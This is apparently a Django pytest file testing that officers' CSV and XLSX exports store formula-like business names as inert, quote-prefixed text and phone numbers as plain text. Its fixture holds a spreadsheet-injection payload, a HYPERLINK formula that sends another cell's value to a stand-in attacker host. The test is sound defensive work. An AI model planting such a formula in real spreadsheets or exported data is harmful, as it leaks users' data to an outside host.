"""The officers' CSV and XLSX exports write formula-like text (a business's name) as inert text
(issue 14, item 7); a phone number is plain text as people write it, with no apostrophe."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from .factories import BusinessFactory, officer

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?d="&E2,"Chi tiết")'


@pytest.fixture
def hostile_business():
    return BusinessFactory(legal_name=NAME, phone="+84912345678")


def test_xlsx_export_writes_a_hostile_business_name_as_text(client, hostile_business):
    client.force_login(officer())
    # when
    response = client.get(reverse("adoption:export", args=["platform-unmatched", "xlsx"]))
    # then
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == NAME)
    assert (row[1].data_type, row[1].quotePrefix) == ("s", True)
    assert (row[4].value, row[4].data_type, row[4].quotePrefix) == ("0912 345 678", "s", False)


def test_csv_export_writes_a_hostile_business_name_as_text(client, hostile_business):
    client.force_login(officer())
    response = client.get(reverse("adoption:export", args=["platform-unmatched", "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[1].endswith(NAME))
    assert row[1] == "'" + NAME
    assert row[4] == "0912 345 678"

